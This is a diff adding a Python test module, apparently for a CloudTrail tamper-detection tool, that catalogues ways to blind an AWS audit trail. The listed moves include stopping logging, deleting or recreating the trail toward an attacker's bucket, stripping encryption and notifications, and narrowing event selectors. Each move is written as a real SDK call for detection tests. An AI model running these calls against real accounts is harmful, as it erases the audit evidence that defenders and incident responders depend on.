@@ -1,0 +1,140 @@
+# SPDX-License-Identifier: Apache-2.0
+"""The catalogue of ways to blind a trail, as attackers carry them out with the real SDK. test_attacks.py runs each in
+each mode; docs/attacks.md is generated from what then happened.
+
+An attack that differs from the field's tools says so: stratus-red-team's cloudtrail-stop, -delete, -event-selectors and
+-lifecycle-rule are A1, A3, B1 and C4; Pacu's detection disruption is A1, A3 and, as "minimize", a single UpdateTrail."""
+
+import collections
+
+from helpers import FRA, IAD, MAIN, topic_arn, trail_arn
+
+# The trail that is attacked: it has everything that can be taken away.
+VICTIM = trail_arn("victim", FRA)
+SINGLE = trail_arn("single", IAD)
+BUCKET, KEY = "example-victim-logs", f"arn:aws:kms:{FRA}:{MAIN}:key/1111aaaa-22bb-33cc-44dd-5555eeee6666"
+GROUP = f"arn:aws:logs:{FRA}:{MAIN}:log-group:CloudTrail:*"
+ROLE = f"arn:aws:iam::{MAIN}:role/CloudTrail_CloudWatchLogs"
+NOTIFIED = topic_arn("deliveries")
+SELECTORS = [{"ReadWriteType": "All", "IncludeManagementEvents": True, "ExcludeManagementEventSources": [],
+              "DataResources": [{"Type": "AWS::S3::Object", "Values": ["arn:aws:s3:::example-secrets/"]}]}]
+SCENARIO = {
+    "trails": [
+        {"name": "victim", "account": MAIN, "region": FRA, "S3BucketName": BUCKET, "S3KeyPrefix": "audit",
+         "IsMultiRegionTrail": True, "IncludeGlobalServiceEvents": True, "LogFileValidationEnabled": True,
+         "KmsKeyId": KEY, "CloudWatchLogsLogGroupArn": GROUP, "CloudWatchLogsRoleArn": ROLE, "SnsTopicARN": NOTIFIED,
+         "event_selectors": SELECTORS, "insight_selectors": [{"InsightType": "ApiCallRateInsight"}],
+         "tags": {"owner": "security", "tier": "1"}},
+        {"name": "single", "account": MAIN, "region": IAD, "S3BucketName": "example-single-logs",
+         "IncludeGlobalServiceEvents": True},
+    ],
+    "topics": [{"arn": NOTIFIED}],
+}
+
+# number: of the catalogue. does: for people. event: of the alert that tells. fields: what its `changes` name. put_back:
+# can be undone by writing to CloudTrail. findings: what an incident without changes names. options: that it needs.
+Attack = collections.namedtuple("Attack", "number does perform event fields put_back findings trail options",
+                                defaults=((), True, (), VICTIM, {}))
+
+
+def update(**settings):
+    return lambda m, trail: m.client(trail).update_trail(Name=trail, **settings)
+
+
+def selectors(**entry):
+    basic = {"ReadWriteType": "All", "IncludeManagementEvents": True,
+             "DataResources": SELECTORS[0]["DataResources"], **entry}
+    return lambda m, trail: m.client(trail).put_event_selectors(TrailName=trail, EventSelectors=[basic])
+
+
+def advanced(*fields):
+    data = {"Name": "data", "FieldSelectors": [{"Field": "eventCategory", "Equals": ["Data"]},
+                                               {"Field": "resources.type", "Equals": ["AWS::S3::Object"]}]}
+    chosen = [data] + ([{"Name": "management", "FieldSelectors": list(fields)}] if fields else [])
+    return lambda m, trail: m.client(trail).put_event_selectors(TrailName=trail, AdvancedEventSelectors=chosen)
+
+
+MANAGEMENT = {"Field": "eventCategory", "Equals": ["Management"]}
+
+
+def stop(m, trail):
+    m.client(trail).stop_logging(Name=trail)
+
+
+def flap(m, trail):
+    m.client(trail).stop_logging(Name=trail)
+    m.client(trail).start_logging(Name=trail)
+
+
+def delete(m, trail):
+    m.client(trail).delete_trail(Name=trail)
+
+
+def recreate_elsewhere(m, trail):
+    """The attacker's own bucket, and nothing of what the trail had."""
+    m.client(trail).delete_trail(Name=trail)
+    m.client(trail).create_trail(Name=trail.rpartition("/")[2], S3BucketName="mallorys-bucket")
+    m.client(trail).start_logging(Name=trail)
+
+
+def fill_quota_and_delete(m, trail):
+    m.client(trail).delete_trail(Name=trail)
+    for number in range(5):
+        m.client(trail).create_trail(Name=f"squatter-{number}", S3BucketName=BUCKET)
+
+
+def insights_off(m, trail):
+    m.client(trail).put_insight_selectors(TrailName=trail, InsightSelectors=[])
+
+
+def retag(m, trail):
+    m.client(trail).remove_tags(ResourceId=trail, TagsList=[{"Key": "owner"}])
+    m.client(trail).add_tags(ResourceId=trail, TagsList=[{"Key": "tier", "Value": "9"}])
+
+
+PACU_MINIMIZE = update(SnsTopicName="", IncludeGlobalServiceEvents=False, IsMultiRegionTrail=False,
+                       EnableLogFileValidation=False, CloudWatchLogsLogGroupArn="", CloudWatchLogsRoleArn="", KmsKeyId="")
+
+ATTACKS = [
+    Attack("A1", "StopLogging", stop, "trail.stopped"),
+    Attack("A2", "StopLogging and StartLogging between two looks", flap, "trail.flapped", put_back=False),
+    Attack("A3", "DeleteTrail", delete, "trail.missing"),
+    Attack("A4", "DeleteTrail, and CreateTrail under the same name with another bucket", recreate_elsewhere,
+           "trail.missing", ("S3BucketName",)),
+    Attack("A5", "UpdateTrail to another bucket", update(S3BucketName="mallorys-bucket"), "trail.weakened",
+           ("S3BucketName",)),
+    Attack("A5p", "UpdateTrail to another prefix", update(S3KeyPrefix="elsewhere"), "trail.weakened", ("S3KeyPrefix",)),
+    Attack("A6", "UpdateTrail: multi-region off", update(IsMultiRegionTrail=False), "trail.weakened",
+           ("IsMultiRegionTrail",)),
+    Attack("A7", "UpdateTrail: global service events off", update(IncludeGlobalServiceEvents=False), "trail.weakened",
+           ("IncludeGlobalServiceEvents",), trail=SINGLE),
+    Attack("A8", "UpdateTrail: log file validation off", update(EnableLogFileValidation=False), "trail.weakened",
+           ("LogFileValidationEnabled",)),
+    Attack("A9", "UpdateTrail: KMS key taken away", update(KmsKeyId=""), "trail.weakened", ("KmsKeyId",)),
+    Attack("A10", "UpdateTrail: SNS topic taken away", update(SnsTopicName=""), "trail.weakened", ("SnsTopicARN",)),
+    Attack("A11", "UpdateTrail: log group taken away",
+           update(CloudWatchLogsLogGroupArn="", CloudWatchLogsRoleArn=""), "trail.weakened",
+           ("CloudWatchLogsLogGroupArn", "CloudWatchLogsRoleArn")),
+    Attack("A6-A11", "Pacu's \"minimize\": all of these in one UpdateTrail", PACU_MINIMIZE, "trail.weakened",
+           ("KmsKeyId", "CloudWatchLogsLogGroupArn", "CloudWatchLogsRoleArn", "SnsTopicARN", "IsMultiRegionTrail",
+            "IncludeGlobalServiceEvents", "LogFileValidationEnabled")),
+    Attack("B1", "PutEventSelectors without management events", selectors(IncludeManagementEvents=False),
+           "trail.weakened", ("EventSelectors",)),
+    Attack("B2r", "PutEventSelectors: reads only", selectors(ReadWriteType="ReadOnly"), "trail.weakened",
+           ("EventSelectors",)),
+    Attack("B2w", "PutEventSelectors: writes only", selectors(ReadWriteType="WriteOnly"), "trail.weakened",
+           ("EventSelectors",)),
+    Attack("B3", "PutEventSelectors: KMS left out", selectors(ExcludeManagementEventSources=["kms.amazonaws.com"]),
+           "trail.weakened", ("EventSelectors",)),
+    Attack("B4a", "advanced selectors without management events", advanced(), "trail.weakened", ("EventSelectors",)),
+    Attack("B4b", "advanced selectors with readOnly", advanced(MANAGEMENT, {"Field": "readOnly", "Equals": ["true"]}),
+           "trail.weakened", ("EventSelectors",)),
+    Attack("B4c", "advanced selectors that leave a source out",
+           advanced(MANAGEMENT, {"Field": "eventSource", "NotEquals": ["kms.amazonaws.com"]}), "trail.weakened",
+           ("EventSelectors",)),
+    Attack("B5", "PutEventSelectors: data events dropped", selectors(DataResources=[]), "trail.weakened",
+           ("EventSelectors",)),
+    Attack("B6", "PutInsightSelectors with none", insights_off, "trail.weakened", ("InsightSelectors",)),
+    Attack("T1", "tags taken away and changed", retag, "trail.weakened", ("Tags",)),
+    Attack("G4", "DeleteTrail, and the quota of trails filled", fill_quota_and_delete, "trail.missing", put_back=False),
+]
